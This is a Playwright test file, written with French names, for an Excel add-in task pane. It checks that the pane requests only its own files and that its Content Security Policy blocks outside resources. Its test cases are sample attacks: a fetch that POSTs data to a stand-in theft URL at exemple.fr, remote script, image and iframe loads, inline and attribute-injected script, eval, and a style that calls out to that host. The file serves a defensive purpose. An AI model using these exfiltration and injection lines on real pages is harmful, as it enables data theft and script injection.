import type { Browser, Frame, Request } from "playwright-core";
import { VUES } from "../../src/taskpane/navigation";
import { ouvrirLAtelier } from "./support/atelier";
import { lancerChromium } from "./support/chromium";
import { OFFICE_JS, ORIGINE, servir, servirOfficeJs } from "./support/serveur";
import { versLaVue } from "./support/vues";

jest.setTimeout(180_000);

let navigateur: Browser;

beforeAll(async () => {
  navigateur = await lancerChromium();
});

afterAll(async () => {
  await navigateur.close();
});

/** What the pane's page asked for: method and origin of each request, told once. */
const demandes = (requetes: readonly Request[]) => [
  ...new Set(requetes.map((requete) => `${requete.method()} ${new URL(requete.url()).origin}`)),
];

describe("Ce que demande le volet construit", () => {
  it("ne demande que ses propres fichiers, du calcul aux documents", async () => {
    const atelier = await ouvrirLAtelier(navigateur);
    const requetes: Request[] = [];
    const volet = await atelier.volet();
    atelier.page.on("request", (requete) => {
      if (requete.frame() === volet) requetes.push(requete);
    });
    await volet.goto(volet.url());
    await atelier.calculer();
    for (const vue of VUES) await versLaVue(volet, vue);
    expect(demandes(requetes)).toEqual([`GET ${ORIGINE}`]);
    expect(requetes.length).toBeGreaterThan(VUES.length);
    expect(atelier.fautes).toEqual([]);
    await atelier.fermer();
  });

  // Office.js would embed a page of Microsoft's telemetry: the policy refuses it, and the pane works without.
  it("la page que sert l'administrateur ne charge qu'elle-même et l'Office.js de Microsoft", async () => {
    const contexte = await navigateur.newContext({ locale: "fr-FR" });
    const refusees = await servir(contexte);
    await servirOfficeJs(contexte);
    const page = await contexte.newPage();
    const requetes: Request[] = [];
    page.on("request", (requete) => requetes.push(requete));
    await page.goto(`${ORIGINE}/taskpane.html`);
    await page.getByText("Cette page s’ouvre dans Excel").first().waitFor();
    expect(demandes(requetes).sort()).toEqual([`GET ${OFFICE_JS}`, `GET ${ORIGINE}`]);
    expect(refusees).toEqual([]);
    await contexte.close();
  });
});

describe("La politique de sécurité du volet refuse", () => {
  let volet: Frame;

  beforeAll(async () => {
    volet = await (await ouvrirLAtelier(navigateur)).volet();
  });

  /** The directive that an attempt breaks, as the page is told of it. */
  async function directiveEnfreinte(tentative: () => void): Promise<string> {
    const refus = volet.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const dire = ({ effectiveDirective }: SecurityPolicyViolationEvent): void => {
            resolve(effectiveDirective);
          };
          document.addEventListener("securitypolicyviolation", dire, { once: true });
        }),
    );
    await volet.evaluate(tentative);
    return refus;
  }

  it.each<readonly [string, () => void, string]>([
    [
      "d'envoyer quoi que ce soit ailleurs",
      () => void fetch("https://exemple.fr/vol", { method: "POST", body: "loyers" }).catch(() => undefined),
      "connect-src",
    ],
    ["une image d'ailleurs", () => (new Image().src = "https://exemple.fr/vol.png"), "img-src"],
    [
      "un script d'ailleurs",
      () => {
        document.body.append(
          Object.assign(document.createElement("script"), { src: "https://exemple.fr/vol.js" }),
        );
      },
      "script-src-elem",
    ],
    [
      "un script écrit dans la page",
      () => {
        document.body.append(Object.assign(document.createElement("script"), { text: "window.vole = true" }));
      },
      "script-src-elem",
    ],
    [
      "un script caché dans un attribut",
      () => {
        document.body.setAttribute("onclick", "window.vole = true");
        document.body.click();
      },
      "script-src-attr",
    ],
    [
      "un texte pris pour du code",
      () => {
        // Later, as the page's own code would: what a test evaluates itself is allowed.
        setTimeout(() => void document.defaultView?.eval("window.vole = true"));
      },
      "script-src",
    ],
    [
      "une autre page dans la page",
      () => {
        document.body.append(Object.assign(document.createElement("iframe"), { src: "https://exemple.fr/" }));
      },
      "frame-src",
    ],
    [
      "un style écrit dans un attribut",
      () => {
        document.body.setAttribute("style", "background: url(https://exemple.fr/vol.png)");
      },
      "style-src-attr",
    ],
  ])("%s", async (_quoi, tentative, directive) => {
    expect(await directiveEnfreinte(tentative)).toBe(directive);
    expect(await volet.evaluate(() => "vole" in window)).toBe(false);
  });
});
